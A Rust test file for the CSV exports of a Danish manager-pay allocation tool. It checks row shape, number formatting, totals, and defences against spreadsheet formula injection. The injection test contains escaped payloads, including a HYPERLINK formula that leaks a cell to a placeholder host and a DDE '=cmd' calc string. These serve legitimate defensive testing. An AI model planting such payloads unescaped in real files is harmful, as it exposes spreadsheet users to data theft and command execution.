//! The CSV exports as a payroll system and a spreadsheet read them: parsed back with the
//! `csv` crate, every row as wide as the header, no cell a spreadsheet would run as a
//! formula, numbers with decimal comma and ASCII minus, no totals among the data rows.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::str::FromStr;

use rust_decimal::Decimal;

use kalibrer::io::csv_dialect::{FORMULA_GUARD, FORMULA_STARTS};
use kalibrer::io::outputs::{Format, OutputKind, render};
use kalibrer::model::Session;

/// The tabular kinds, each of which can be written as CSV.
const TABULAR: [OutputKind; 3] = [OutputKind::Allocation, OutputKind::Statistics, OutputKind::FixedSalary];

/// Parses a CSV export strictly: BOM, `;`, CRLF only, every record as wide as the header
/// (the reader refuses ragged rows). Returns the header and the records.
fn parse(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    let text = std::str::from_utf8(bytes).unwrap();
    let body = text.strip_prefix('\u{feff}').expect("UTF-8 BOM");
    let mut reader = csv::ReaderBuilder::new().delimiter(b';').flexible(false).from_reader(body.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let records: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.expect("every row as wide as the header").iter().map(String::from).collect())
        .collect();
    (header, records)
}

/// A machine CSV number: decimal comma, ASCII minus, no grouping.
fn number(field: &str) -> Decimal {
    assert!(!field.contains('.') && !field.contains('\u{2212}'), "{field:?}: no grouping, ASCII minus");
    Decimal::from_str(&field.replace(',', ".")).unwrap_or_else(|_| panic!("{field:?} is no number"))
}

fn csv(s: &Session, kind: OutputKind) -> Vec<u8> {
    render(s, kind, Format::Csv).unwrap()
}

#[test]
fn the_allocation_csv_has_one_row_per_manager_and_no_totals() {
    let s = common::demo();
    let bytes = csv(&s, OutputKind::Allocation);
    let text = String::from_utf8(bytes.clone()).unwrap();
    assert!(!text.replace("\r\n", "").contains('\n'), "CRLF only");
    let (header, rows) = parse(&bytes);
    assert_eq!(header[..6], ["id", "navn", "niveau", "enhed", "vederlagsform", "beløb"]);
    assert_eq!(rows.len(), 28, "28 managers and nothing else");
    assert!(rows.iter().all(|r| !r.iter().any(|c| c == "I alt")), "no totals row");
    let kc12 = rows.iter().find(|r| r[0] == "KC12").unwrap();
    assert_eq!((kc12[1].as_str(), kc12[5].as_str()), ("Kasper Møller Lund", "110000"));
    // The sum payroll would take is the pool used: 1.565.000 kr. in the demo.
    let sum: Decimal = rows.iter().map(|r| number(&r[5])).sum();
    assert_eq!(sum, Decimal::from(1_565_000));
    assert_eq!(sum, kalibrer::engine::evaluate(&s).pool.used);
}

#[test]
fn fixed_salary_csv_keeps_oere_with_a_decimal_comma() {
    let (_, rows) = parse(&csv(&common::demo(), OutputKind::FixedSalary));
    let kc01 = rows.iter().find(|r| r[0] == "KC01").unwrap();
    // 75 % of 41.000 (2025) = 30.750; (38.000 + 40.000 + 41.000) / 3 = 39.666,67, over 3 years.
    assert_eq!(kc01[1..], ["Anne Marie Holst", "Kontorchef", "30750", "39666,67", "3"]);
    // KC12 has no earlier amount: no average, over 0 years.
    let kc12 = rows.iter().find(|r| r[0] == "KC12").unwrap();
    assert_eq!(kc12[3..], ["", "", "0"]);
}

#[test]
fn statistics_csv_has_no_ragged_row() {
    let (header, rows) = parse(&csv(&common::demo(), OutputKind::Statistics));
    assert_eq!(header.len(), 15, "with «Ændring over antal ledere» and what a reference needs (role … year)");
    let levels: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(levels, ["Departementschef", "Styrelsesdirektør", "Afdelingschef", "Kontorchef", "Alle"]);
    let kc = rows.iter().find(|r| r[0] == "Kontorchef").unwrap();
    assert_eq!(kc[1], "20");
}

#[test]
fn hostile_names_never_become_formulas_and_ids_keep_their_zeros() {
    let s = common::hostile_session();
    for kind in TABULAR {
        let bytes = csv(&s, kind);
        let text = String::from_utf8(bytes.clone()).unwrap();
        assert!(!text.contains('\u{2212}'), "{kind:?}: ASCII minus only");
        let (header, rows) = parse(&bytes);
        for cell in header.iter().chain(rows.iter().flatten()) {
            let first = cell.chars().find(|c| !matches!(c, ' ' | '\u{a0}' | '\n'));
            assert!(
                !first.is_some_and(|c| FORMULA_STARTS.contains(&c)),
                "{kind:?}: {:?} would run as a formula",
                cell.chars().take(40).collect::<String>()
            );
        }
    }
    let (_, rows) = parse(&csv(&s, OutputKind::Allocation));
    let names: Vec<&str> = rows.iter().map(|r| r[1].as_str()).collect();
    for hostile in common::HOSTILE {
        let shown = if FORMULA_STARTS.contains(&hostile.chars().next().unwrap()) {
            format!("{FORMULA_GUARD}{hostile}")
        } else {
            hostile.to_string()
        };
        assert!(names.contains(&shown.as_str()), "{hostile:?} as {shown:?}");
        assert!(rows.iter().any(|r| r[3] == shown), "unit {hostile:?} as {shown:?}");
    }
    assert!(names.contains(&"'=HYPERLINK(\"http://x/?d=\"&F2;\"Klik\")"));
    assert!(names.contains(&"<b>x</b>") && names.contains(&"{{beløb}}"), "text stays text, unexpanded");
    assert!(names.iter().any(|n| n.chars().count() == 40_000), "CSV has no cell limit: the long name whole");
    assert!(rows.iter().any(|r| r[0] == common::ZERO_ID), "the id as written, zeros kept");
    assert!(rows.iter().any(|r| r[2] == "'=cmd|' /C calc'!A0 [a]:*?/\\ og en meget lang niveaubetegnelse"));
    let (_, stats) = parse(&csv(&s, OutputKind::Statistics));
    assert!(stats.iter().any(|r| r[0] == "'Kontorchef'") && stats.iter().any(|r| r[0] == "History"));
}
